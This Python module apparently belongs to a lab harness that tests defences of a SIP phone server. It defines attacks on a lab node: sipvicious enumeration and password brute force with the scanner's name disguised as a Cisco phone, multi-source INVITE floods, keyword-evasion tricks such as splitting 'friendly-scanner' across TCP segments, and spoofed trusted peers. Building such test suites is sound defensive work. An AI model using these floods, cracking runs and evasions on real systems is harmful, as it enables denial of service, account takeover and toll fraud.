"""Who attacks: real scanners, floods and every evasion known; each attack is bounded and says what it is."""

from __future__ import annotations

import itertools
import socket
import sys
import time
from contextlib import suppress
from pathlib import Path

from attack_lab import NODE, PEERS
from sip_messages import SCANS, request

_RENAME = """
import sys
from sipvicious.libs import svhelper
made = svhelper.makeRequest
made.__defaults__ = tuple("Cisco-CP7841/11.0" if v == "friendly-scanner" else v for v in made.__defaults__)
from sipvicious import {tool}
sys.argv[0] = "{tool}"
{tool}.main()
"""
_INVITE = """<?xml version="1.0"?>
<scenario name="flood"><send><![CDATA[

INVITE sip:00442071838750@{node} SIP/2.0
Via: SIP/2.0/UDP [local_ip]:[local_port];branch=[branch]
From: <sip:100@{node}>;tag=[pid]f[call_number]
To: <sip:00442071838750@{node}>
Call-ID: [call_id]
CSeq: 1 INVITE
Contact: <sip:100@[local_ip]:[local_port]>
Max-Forwards: 70
User-Agent: Grandstream GXP2170
Content-Length: 0

]]></send></scenario>
"""
_sources = itertools.count(1)


def fresh(family, count=1):
    """Return source addresses that no attack has used, each of another /24 (v6: /64)."""
    numbers = [next(_sources) for _ in range(count)]
    if family == 4:
        return [f"198.{18 + number // 256 % 2}.{number % 256}.{7 + number // 512}" for number in numbers]
    return [f"2001:db8:b:{number:x}::9" for number in numbers]


def sipvicious(tool, *words, renamed=False):
    """Return an attack with one of the sipvicious tools, under its own name or another."""

    def attack(lab):
        program = Path(sys.executable).with_name(f"sipvicious_{tool}")
        start = (sys.executable, "-c", _RENAME.format(tool=tool)) if renamed else (program,)
        bound = ("-b", fresh(4)[0], "-t", "0.01")
        lab.command(lab.world, *start, *bound, *words, NODE[4], seconds=1.5)

    return attack


def sipsak(lab):
    lab.command(lab.world, "sipsak", "-s", f"sip:100@{NODE[4]}", seconds=1)
    lab.command(lab.world, "sipsak", "-F", "-e", "200", "-s", f"sip:100@{NODE[4]}", seconds=1.5)


def sipp_flood(sources, *, packets=1500, rate=1500):
    """Return a flood of INVITEs by sipp from so many source addresses."""

    def attack(lab):
        scenario, addresses = lab.folder / "flood.xml", lab.folder / "sources.csv"
        scenario.write_text(_INVITE.format(node=NODE[4]))
        addresses.write_text("SEQUENTIAL\n" + "".join(f"{source};\n" for source in fresh(4, sources)))
        lab.command(lab.world, "sipp", "-sf", scenario, "-t", "ui", "-max_socket", 3000, "-inf", addresses, "-ip_field", 0, "-r", rate, "-m", packets,
                    "-l", packets, "-nostdin", "-timeout", "4", NODE[4], seconds=6)  # fmt: skip

    return attack


def slow_scan(lab):
    """One source, one REGISTER each tenth of a second, another user each time."""
    sender = lab.socket(4, socket.SOCK_DGRAM, fresh(4)[0])
    for user in range(20):
        sender.sendto(
            request("REGISTER", f"sip:{user}@lab", "User-Agent: Grandstream GXP2170"), (NODE[4], 5060)
        )
        time.sleep(0.1)


def evasions(family):
    """Return an attack that tries each known way past a word list, each from a source of its own."""

    def attack(lab):
        for payload in SCANS.values():
            lab.socket(family, socket.SOCK_DGRAM, fresh(family)[0]).sendto(payload, (NODE[family], 5060))

    return attack


def after_a_reply(lab):
    """A brute-force run over one flow: the first answer makes it an established one."""
    sender = lab.socket(4, socket.SOCK_DGRAM, fresh(4)[0])
    sender.settimeout(0.3)
    for number in range(300):
        agent = "User-Agent: friendly-scanner" if number else "User-Agent: Grandstream GXP2170"
        sender.sendto(request("REGISTER", "sip:100@lab", agent), (NODE[4], 5060))
        if not number:
            with suppress(TimeoutError):
                sender.recv(65535)


def many_sources_to_flush_a_table(lab):
    """One brute-force source among 150 others, packet by packet."""
    own = lab.socket(4, socket.SOCK_DGRAM, fresh(4)[0])
    others = [lab.socket(4, socket.SOCK_DGRAM, source) for source in fresh(4, 150)]
    payload = request("REGISTER", "sip:100@lab", "User-Agent: Grandstream GXP2170")
    for number in range(60):
        own.sendto(payload, (NODE[4], 5060))
        for other in others[: 150 if number % 10 == 0 else 0]:
            other.sendto(payload, (NODE[4], 5060))


def tcp_split(lab):
    """Forty connections from one source; the word that lists know is cut in two by segments."""
    source = fresh(4)[0]
    for _ in range(40):
        made = lab.socket(4, socket.SOCK_STREAM, source)
        made.settimeout(0.02)
        made.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            made.connect((NODE[4], 5060))
            made.send(b"OPTIONS si")
            made.send(b"p:100@lab SIP/2.0\r\nUser-Agent: friendly-sc")
            made.send(b"anner\r\nContent-Length: 0\r\n\r\n")
        except (TimeoutError, OSError):
            continue


def spoofed_peers(lab):
    """Scans in the name of trusted peers: whoever bans by packet count now bans the peers."""
    for peer in PEERS:
        sender = lab.socket(4, socket.SOCK_DGRAM, peer, 5060)
        for _ in range(100):
            sender.sendto(SCANS["friendly-scanner"], (NODE[4], 5060))


def spoofed_device(lab):
    """The same in the name of a device with a password, whose address the site does not know."""
    sender = lab.socket(4, socket.SOCK_DGRAM, "203.0.113.77", 5062)
    for _ in range(25):
        sender.sendto(SCANS["friendly-scanner"], (NODE[4], 5060))


ATTACKS = {
    "svmap": sipvicious("svmap"),
    "svmap, another name": sipvicious("svmap", "-m", "REGISTER", renamed=True),
    "svwar, REGISTER": sipvicious("svwar", "-e", "100-399", "--force", "-m", "REGISTER"),
    "svwar, INVITE, another name": sipvicious(
        "svwar", "-e", "100-399", "--force", "-m", "INVITE", renamed=True
    ),
    "svcrack": sipvicious("svcrack", "-u", "100", "-r", "100-399"),
    "svcrack, another name": sipvicious("svcrack", "-u", "100", "-r", "100-399", renamed=True),
    "sipsak": sipsak,
    "sipp flood, 1 source": sipp_flood(1),
    "sipp flood, 50 sources": sipp_flood(50),
    "sipp flood, 2,000 sources": sipp_flood(2000, packets=2000, rate=2000),
    "slow scan, 10 a second": slow_scan,
    "brute force after a 401": after_a_reply,
    "150 other sources, 6 each": many_sources_to_flush_a_table,
    "evasions, IPv4": evasions(4),
    "evasions, IPv6": evasions(6),
    "TCP, words split": tcp_split,
    "spoofed peers": spoofed_peers,
    "spoofed device": spoofed_device,
}
